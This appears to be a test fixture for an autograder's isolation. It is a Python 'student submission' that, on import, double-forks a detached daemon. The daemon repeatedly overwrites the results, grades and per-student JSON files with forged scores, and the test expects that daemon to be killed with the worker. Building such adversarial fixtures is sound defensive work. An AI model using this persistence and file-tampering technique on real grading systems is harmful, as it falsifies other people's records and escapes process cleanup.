# Payload: at import, leave a daemon (double fork, a new session, named after the marker)
# that waits 3 s, then for as long as it lives rewrites the run's results every 0.2 s:
# OUT/results.json, OUT/grades.csv and every OUT/students/*.json (the classmate's
# included), each in place and through a file renamed over it. It must die with the worker:
# nothing it writes may appear, during the run or after it, and the files the grader wrote
# stay exactly as written. This student is graded like alice (full marks).
import os as _os
import sys as _sys

_DAEMON = (
    "import glob, json, os, sys, time\n"
    "token = 'FORGED-' + '@@MARKER@@'\n"
    "out = '@@OUT@@'\n"
    "time.sleep(3)\n"
    "end = time.monotonic() + 600\n"
    "while time.monotonic() < end:\n"
    "    paths = [os.path.join(out, 'results.json'), os.path.join(out, 'grades.csv')]\n"
    "    paths += glob.glob(os.path.join(out, 'students', '*.json'))\n"
    "    for path in paths:\n"
    "        forged = json.dumps({'score': 0.0, 'status': 'graded', 'token': token})\n"
    "        if path.endswith('.csv'):\n"
    "            forged = 'student,score,max_score,status\\nvictim,0,30,graded\\n# ' + token\n"
    "        for temporary in (None, path + '.' + token):\n"
    "            try:\n"
    "                with open(temporary or path, 'w') as handle:\n"
    "                    handle.write(forged)\n"
    "                if temporary:\n"
    "                    os.replace(temporary, path)\n"
    "            except OSError:\n"
    "                pass\n"
    "    time.sleep(0.2)\n"
)
_pid = _os.fork()
if _pid == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv(_sys.executable, [_sys.executable, "-c", _DAEMON, "@@MARKER@@-rewrite"])
    finally:
        _os._exit(0)
_os.waitpid(_pid, 0)
